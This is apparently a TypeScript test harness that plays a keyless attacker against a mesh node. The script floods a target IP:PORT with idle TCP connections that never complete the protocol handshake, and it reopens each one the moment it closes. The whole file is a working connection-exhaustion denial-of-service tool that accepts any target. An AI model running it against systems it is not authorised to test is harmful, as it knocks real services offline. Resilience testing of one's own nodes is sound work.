// An attacker without a key: holds N idle TCP connections to a mesh port, sending nothing, and
// reopens each one as soon as it is closed. Prints "open <n> opened <total>" once a second.
// Usage: node idle-flood-main.js --target IP:PORT [--count 300]
import { connect, type Socket } from "node:net";
import { parseArgs } from "node:util";

const { values } = parseArgs({ options: { target: { type: "string" }, count: { type: "string", default: "300" } } });
const [host, port] = (values.target ?? "").split(":");
if (!host || !port) throw new Error("--target IP:PORT is required");
const count = Number(values.count);

let open = 0;
let opened = 0;
function hold(): void {
  const s: Socket = connect({ host, port: Number(port) });
  let connected = false;
  s.on("connect", () => {
    connected = true;
    open++;
    opened++;
  });
  s.on("error", () => undefined);
  s.on("data", () => undefined); // whatever the agent says (multistream-select), never answer
  s.on("close", () => {
    if (connected) open--;
    // Reopen at once, like an attacker would; a short pause if the port refused the connect.
    setTimeout(hold, connected ? 0 : 100);
  });
}
for (let i = 0; i < count; i++) hold();
setInterval(() => console.log(`open ${open} opened ${opened}`), 1000);
